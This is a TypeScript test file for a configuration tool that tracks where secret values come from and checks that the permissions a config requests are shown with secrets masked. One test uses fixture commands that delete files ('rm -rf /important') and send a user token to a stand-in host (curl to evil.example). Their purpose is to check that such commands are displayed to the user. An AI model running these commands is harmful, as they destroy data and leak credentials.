// A value keeps its origin on every way through a config: escaped in templates, through the inputs of recipes and their expressions,
// as a default, in lists. And what a power is bound to: the text, or for a credential the place that it is kept in.

import { rm, symlink } from "node:fs/promises";
import { join } from "node:path";
import fc from "fast-check";
import { beforeAll, describe, expect, test } from "vitest";
import type { Power } from "../../src/contract/power.ts";
import { openProject, type Project, wordsOf } from "../support/proven.ts";

let project: Project;
beforeAll(() => {
  project = openProject();
});

const header = "recipe: tested\nversion: 1.0.0\ntitle: Tested\ndescription: For a test.\n";

async function powers(config: string, env: Record<string, string> = {}): Promise<readonly Power[]> {
  const { plan, issues } = await project.prove(config, env);
  expect(issues.map(({ path, message }) => `${path}: ${message}`)).toEqual([]);
  return plan.powers;
}
const asked = async (config: string, env?: Record<string, string>) => wordsOf(await powers(config, env));

describe("a secret of any characters", () => {
  const places: readonly (readonly [name: string, config: string])[] = [
    ["url of a poll", 'sources: { x: { type: poll, url: "https://h.example/?d=${file:value.txt}" } }'],
    [
      "body of a poll",
      'sources: { x: { type: poll, url: "https://h.example/", body: "a ${file:value.txt} b" } }',
    ],
    [
      "json of a poll",
      'sources: { x: { type: poll, url: "https://h.example/", json: { a: ["${file:value.txt}"] } } }',
    ],
    [
      "send of a websocket",
      'sources: { x: { type: websocket, url: "wss://h.example/", send: ["${file:value.txt}", { a: "${file:value.txt}" }] } }',
    ],
    [
      "url of a sink",
      'sinks: { x: { type: http, description: d, request: { url: "https://h.example/${file:value.txt}" } } }',
    ],
    [
      "form of a sink",
      'sinks: { x: { type: http, description: d, request: { url: "https://h.example/", form: { a: "${file:value.txt}" } } } }',
    ],
    [
      "stdin of a sink",
      'sinks: { x: { type: command, description: d, command: [cat], stdin: "a ${file:value.txt}" } }',
    ],
    [
      "argument of a sink",
      'sinks: { x: { type: command, description: d, command: [echo, "a ${file:value.txt} b"] } }',
    ],
    ["argument of a command", 'sources: { x: { type: command, command: [echo, "a ${file:value.txt} b"] } }'],
    [
      "content of a file",
      'sinks: { x: { type: file, description: d, path: notes, file: a.md, content: "a ${file:value.txt}" } }',
    ],
  ];
  const anySecret = fc
    .string({
      unit: fc.constantFrom("{", "}", "{{", "\\", '"', "'", "$", "${", "a", "7", "\n", "é", "•", "<"),
      minLength: 4,
      maxLength: 12,
    })
    .filter((text) => text.trim() === text && text.length > 3 && /^[\x21-\x7e]/.test(text));

  test.each(places)("in the %s asks, and is not shown", async (_, config) => {
    await fc.assert(
      fc.asyncProperty(anySecret, async (secret) => {
        await project.write({ "value.txt": `${secret}s3cr3t${secret}` });
        const { plan } = await project.prove(config);
        expect(plan.powers).toHaveLength(1);
        expect(plan.powers[0]?.value).toMatch(/ with \.\/value\.txt$/);
        expect(plan.powers[0]?.value).not.toContain("s3cr3t");
      }),
      { numRuns: 15 },
    );
  });
});

describe("a recipe", () => {
  const env = { TOKEN: "a-token-of-the-user" };
  const used = (inputs: string) => `use: { u: { recipe: ./r.yaml, with: { x: ${inputs} } } }`;

  test.each<[string, string]>([
    ['url: "https://${inputs.x}.example/"', "secret https://•••.example with ${TOKEN}"],
    ['url: "https://h.example/", headers: { a: "${inputs.x}" }', "secret https://h.example with ${TOKEN}"],
    ['url: "https://h.example/?c={{cursor}}", cursor: inputs.x', "secret https://h.example with ${TOKEN}"],
    ['url: "https://h.example/", items: "[inputs.x]"', "secret https://h.example with ${TOKEN}"],
    ['url: "https://h.example/", items: "[data]"', "connect https://h.example"],
  ])("that gets a variable for an ordinary input and has { %s }", async (options, words) => {
    await project.write({
      "r.yaml": `${header}inputs: { x: { type: string, description: d } }\nsources: { s: { type: poll, ${options} } }\n`,
    });
    expect(await asked(used('"${TOKEN}"'), env)).toEqual([`${words} (sources.u_s)`]);
    if (!options.includes("${inputs.x}"))
      expect((await asked(used("typed"), env))[0]).toBe("connect https://h.example (sources.u_s)");
  });

  test.each<[string, string]>([
    ['content: "a {{inputs.x}}"', "show ${TOKEN} (channels.u_c)"],
    ["vars: { v: inputs.x }", "show ${TOKEN} (channels.u_c)"],
    ['meta: { m: "{{inputs.x}}" }', "show ${TOKEN} (channels.u_c)"],
    ['thread: "{{inputs.x}}"', "show ${TOKEN} (channels.u_c)"],
    ['content: "${inputs.x}"', "show ${TOKEN} (channels.u_c)"],
  ])("that shows it to Claude: { %s }", async (options, words) => {
    await project.write({
      "r.yaml": `${header}inputs: { x: { type: string, description: d } }
sources: { s: { type: http, path: /p } }
channels: { c: { from: s, ${options} } }
`,
    });
    expect(await asked(used('"${TOKEN}"'), env)).toEqual([words]);
    expect(await asked(used("typed"), env)).toEqual([]);
    // What a file holds is shown to nobody.
    await project.write({ "value.txt": "of-a-file" });
    const { plan, loaded } = await project.prove(used('"${file:value.txt}"'), env);
    expect(plan.powers).toEqual([]);
    expect(JSON.stringify(loaded.values.channels)).not.toContain("of-a-file");
  });

  test.each([
    ["{{json this}}"],
    ["{{json .}}"],
    ["{{.}}"],
    ["{{#with data}}{{json ..}}{{/with}}"],
    ["{{lookup this (lower 'INPUTS')}}"],
    ["{{lookup @root (lower 'INPUTS')}}"],
    ["{{#each @root}}{{@key}}={{json this}}{{/each}}"],
    ["{{#with this}}{{json .}}{{/with}}"],
  ])("whose template reaches for all that there is: %s", async (content) => {
    const channel = (more: string) => `${header}inputs: { x: { type: string, description: d } }
sources: { s: { type: http, path: /p } }
channels: { c: { from: s, ${more} content: "${content}" } }
`;
    await project.write({ "r.yaml": channel("") });
    const { plan, loaded } = await project.prove(used('"${TOKEN}"'), env);
    // It names no input, and so it has none that a variable is in.
    expect(plan.powers).toEqual([]);
    expect(JSON.stringify([loaded.values.channels, plan.channels])).not.toContain(env.TOKEN);
    await project.write({ "r.yaml": channel("when: inputs.x == data.x,") });
    expect(await asked(used('"${TOKEN}"'), env)).toEqual(["show ${TOKEN} (channels.u_c)"]);
  });

  test.each([
    ['when: "inputs.x.startsWith(data.guess)"'],
    ['dedupe: { key: "{{#if (eq inputs.x data.guess)}}same{{else}}{{data.n}}{{/if}}" }'],
    ['changed: { value: "inputs.x.contains(data.guess)" }'],
    ['changed: { value: data.a, by: "{{inputs.x}}" }'],
    ['supersede: "{{inputs.x}}"'],
    ['throttle: { max: 1, per: 10s, by: "{{inputs.x}}" }'],
  ])("that decides with it which events pass, which their senders see, asks: %s", async (options) => {
    await project.write({
      "r.yaml": `${header}inputs: { x: { type: string, description: d } }
sources: { s: { type: http, path: /p } }
channels: { c: { from: s, ${options}, content: "{{data.a}}" } }
`,
    });
    expect(await asked(used('"${TOKEN}"'), env)).toEqual(["show ${TOKEN} (channels.u_c)"]);
  });

  test("that only matches events with it asks for nothing, unless it compares the order", async () => {
    const recipe = (operand: string) => `${header}inputs: { x: { type: string, description: d } }
sources: { s: { type: http, path: /p } }
channels: { c: { from: s, match: { data.x: ${operand} }, content: "{{data.a}}" } }
`;
    await project.write({ "r.yaml": recipe('"${inputs.x}"') });
    expect(await asked(used('"${TOKEN}"'), env)).toEqual([]);
    await project.write({ "r.yaml": recipe('{ gt: "${inputs.x}" }').replace("string", "integer") });
    const pin = { TOKEN: "4711" };
    expect(await asked(used('"${TOKEN}"'), pin)).toEqual(["show ${TOKEN} (channels.u_c)"]);
  });

  test("that is changed, or written once and used twice, keeps the origin", async () => {
    await project.write({ "r.yaml": `${header}sources: { s: { type: poll, url: "https://h.example/" } }\n` });
    const config = `use: { u: { recipe: ./r.yaml, override: { sources: { s: { headers: { a: &t "\${TOKEN}" } } } } } }
sources: { x: { type: poll, url: "https://g.example/", headers: { b: *t } } }
`;
    expect(await asked(config, env)).toEqual([
      "secret https://g.example with ${TOKEN} (sources.x)",
      "secret https://h.example with ${TOKEN} (sources.u_s)",
    ]);
  });

  test.each([
    ['"{{event.vars.v}}"', "vars: { v: inputs.x }"],
    ['"{{event.inputs.x}}"', 'content: "{{inputs.x}}"'],
    ['"{{#with event}}{{inputs.x}}{{/with}}"', 'when: "inputs.x != data.a"'],
    ['"{{json event}}"', 'when: "inputs.x != data.a"'],
  ])("whose sink sends %s of an event", async (body, channel) => {
    await project.write({
      "r.yaml": `${header}inputs: { x: { type: string, description: d } }
sources: { s: { type: http, path: /p } }
channels: { c: { from: s, reply: k, ${channel} } }
sinks: { k: { type: http, description: d, request: { url: "https://h.example/", body: ${body} } } }
`,
    });
    const words = await asked(used('"${TOKEN}"'), env);
    expect(words).toContain("secret POST https://h.example with ${TOKEN} (sinks.u_k)");
    expect(await asked(used("typed"), env)).toEqual(["connect POST https://h.example (sinks.u_k)"]);
  });

  test("hands a list on with the origin of each item", async () => {
    await project.write({
      "r.yaml": `${header}inputs: { x: { type: array, items: { type: string }, description: d } }
sources: { s: { type: websocket, url: "wss://h.example/", protocols: "\${inputs.x}" } }
`,
    });
    expect(await asked(used('[a, "${TOKEN}"]'), env)).toEqual([
      "secret wss://h.example with ${TOKEN} (sources.u_s)",
    ]);
    expect(await asked(used("[a, b]"), env)).toEqual(["connect wss://h.example (sources.u_s)"]);
  });
});

test("a default, and what a config types for an ordinary input, came from nowhere", async () => {
  await project.write({
    "r.yaml": `${header}inputs: { x: { type: string, description: d } }\nsources: { s: { type: poll, url: "https://\${inputs.x}/" } }\n`,
  });
  const config = `use: { u: { recipe: ./r.yaml, with: { x: h.example } } }
sources: { x: { type: poll, url: "https://\${HOST:-g.example}/" } }`;
  expect(await asked(config)).toEqual([
    "connect https://g.example (sources.x)",
    "connect https://h.example (sources.u_s)",
  ]);
  expect(await asked(config, { HOST: "i.example" })).toContain("secret https://••• with ${HOST} (sources.x)");
});

describe("what a power is bound to", () => {
  const credential = (value: string) =>
    `sources: { x: { type: poll, url: "https://h.example/", auth: { scheme: bearer, secret: "${value}" } } }`;
  const header = (value: string) =>
    `sinks: { x: { type: http, description: d, request: { url: "https://h.example/", headers: { authorization: "Bearer ${value}" } } } }`;
  const hash = async (config: string, env?: Record<string, string>) => (await powers(config, env))[0]?.hash;

  test.each([
    ["a credential", credential],
    ["the value of a header", header],
  ])("%s from outside the project: the place that it is kept in", async (_, config) => {
    const before = await hash(config("${TOKEN}"), { TOKEN: "a-token-1" });
    expect(await hash(config("${TOKEN}"), { TOKEN: "a-token-2, longer" })).toBe(before);
    expect(await hash(config("${OTHER}"), { OTHER: "a-token-1" })).not.toBe(before);
    await project.write({ "~/token": "of-the-user-1" });
    const file = await hash(config("${file:~/token}"));
    await project.write({ "~/token": "of-the-user-2" });
    expect(await hash(config("${file:~/token}"))).toBe(file);
    await project.write({ "~/other": "of-the-user-2" });
    expect(await hash(config("${file:~/other}"))).not.toBe(file);
  });

  test.each([
    ["a credential", credential],
    ["the value of a header", header],
  ])("%s from the project: its text", async (_, config) => {
    await project.write({ ".env": "TOKEN=a-token-1\n", "token.txt": "a-token-1" });
    const [variable, file] = [await hash(config("${TOKEN}")), await hash(config("${file:token.txt}"))];
    await project.write({ ".env": "TOKEN=a-token-2\n", "token.txt": "a-token-2" });
    expect(await hash(config("${TOKEN}"))).not.toBe(variable);
    expect(await hash(config("${file:token.txt}"))).not.toBe(file);
    // The same text from another layer is another thing.
    expect(await hash(config("${TOKEN}"), { TOKEN: "a-token-2" })).not.toBe(await hash(config("${TOKEN}")));
    expect(await hash(config("a-token-1"))).not.toBe(await hash(config("a-token-2")));
    await project.write({ ".env": "" });
  });

  test("a file of the project that is a link: what it leads to", async () => {
    await project.write({ "~/one": "of-the-user", "~/two": "of-the-user" });
    const link = join(project.folder, "a-link");
    await symlink(join(project.home, "one"), link);
    const before = await hash(credential("${file:a-link}"));
    await project.write({ "~/one": "another-text" });
    expect(await hash(credential("${file:a-link}"))).toBe(before);
    await rm(link);
    await symlink(join(project.home, "two"), link);
    expect(await hash(credential("${file:a-link}"))).not.toBe(before);
  });

  test("a .env of the project that is a link: it is named, and so is what it leads to", async () => {
    const dotenv = join(project.folder, ".env");
    await project.write({ "~/one": "TOKEN=of-the-user\n", "~/two": "TOKEN=of-the-user\n" });
    await project.write({ ".env": "TOKEN=of-the-user\n" });
    const hashes = [await hash(credential("${TOKEN}"))];
    for (const name of ["one", "two"]) {
      await rm(dotenv);
      await symlink(join(project.home, name), dotenv);
      expect(await asked(credential("${TOKEN}"))).toEqual([
        `secret https://h.example with \${TOKEN} of .env, a link to ~/${name} (sources.x)`,
      ]);
      hashes.push(await hash(credential("${TOKEN}")));
    }
    expect(new Set(hashes).size).toBe(3);
    await rm(dotenv);
  });

  test("a file that a command names through a link out of the project: what it leads to", async () => {
    const config = 'sources: { x: { type: command, command: [curl, -d, "@a-note", "https://h.example"] } }';
    await project.write({ "a-note": "hello", "~/one": "of-the-user" });
    const link = join(project.folder, "a-note");
    const before = await hash(config);
    await rm(link);
    await symlink(join(project.home, "one"), link);
    expect(await hash(config)).not.toBe(before);
    expect((await asked(config))[0]).toMatch(/, where a-note is a link to \S+\/one /);
    await rm(link);
  });

  test.each([
    ['sources: { x: { type: poll, url: "https://h.example/${TOKEN}" } }'],
    ['sources: { x: { type: command, command: [echo, "${TOKEN}"] } }'],
    ['sources: { x: { type: command, command: [echo], env: { A: "${TOKEN}" } } }'],
    ['sinks: { x: { type: command, description: d, command: [cat], stdin: "${TOKEN}" } }'],
    [
      'sinks: { x: { type: http, description: d, input: { a: { default: "${TOKEN}" } }, request: { url: "https://h.example/" } } }',
    ],
  ])("anything else: its text, wherever that is kept: %s", async (config) => {
    expect(await hash(config, { TOKEN: "a-token-1" })).not.toBe(await hash(config, { TOKEN: "a-token-2" }));
  });

  test("two secrets that change places are another power", async () => {
    const config = (a: string, b: string) =>
      `sources: { x: { type: poll, url: "https://h.example/", headers: { a: "\${${a}}", b: "\${${b}}" } } }`;
    const env = { ONE: "a-token-1", TWO: "a-token-2" };
    expect(await hash(config("ONE", "TWO"), env)).not.toBe(await hash(config("TWO", "ONE"), env));
    const text = (value: string) =>
      `sources: { x: { type: poll, url: "https://h.example/", headers: { a: "${value}" } } }`;
    expect(await hash(text("${ONE}${TWO}"), env)).not.toBe(await hash(text("${TWO}${ONE}"), env));
    expect(await hash(text("${ONE}x"), env)).not.toBe(await hash(text("x${ONE}"), env));
  });
});

test("what is shown hides only what came in: a secret that the config invents hides nothing else", async () => {
  const config = `sources:
  a: { type: poll, url: "https://h.example/", auth: { scheme: bearer, secret: "rm -rf /important" } }
  b: { type: command, command: [sh, -c, "echo hello; rm -rf /important"] }
  c: { type: command, command: [curl, -s, "http://evil.example/?k=\${TOKEN}"] }
  d: { type: command, command: ["\${LINTER}", --fix] }`;
  await project.write({ ".env": "LINTER=ls\n" });
  const words = await asked(config, { TOKEN: "a-token-of-the-user" });
  await project.write({ ".env": "" });
  expect(words).toEqual([
    "secret https://h.example with a secret (sources.a)",
    "command sh -c 'echo hello; rm -rf /important' (sources.b)",
    "command curl -s 'http://evil.example/?k=•••' with ${TOKEN} (sources.c)",
    expect.stringMatching(/^command \/\S*\/ls --fix with \$\{LINTER\} of \.env \(sources\.d\)$/),
  ]);
});

test("a default that came in is sent, and not shown with the tool", async () => {
  const { plan } = await project.prove(
    'sinks: { x: { type: http, description: d, input: { a: { type: string, default: "${TOKEN}" }, b: { type: object, properties: { default: { type: string, title: t } } } }, request: { url: "https://h.example/" } } }',
    { TOKEN: "a-token-of-the-user" },
  );
  const sink = plan.sinks[0];
  expect(sink?.input).toMatchObject({
    properties: { a: { type: "string" }, b: { properties: { default: { title: "t" } } } },
    required: ["b"],
  });
  expect(JSON.stringify(sink?.input)).not.toContain("a-token");
  const input = { b: {} };
  expect(sink?.validate(input)).toBe(true);
  expect(input).toMatchObject({ a: "a-token-of-the-user" });
});
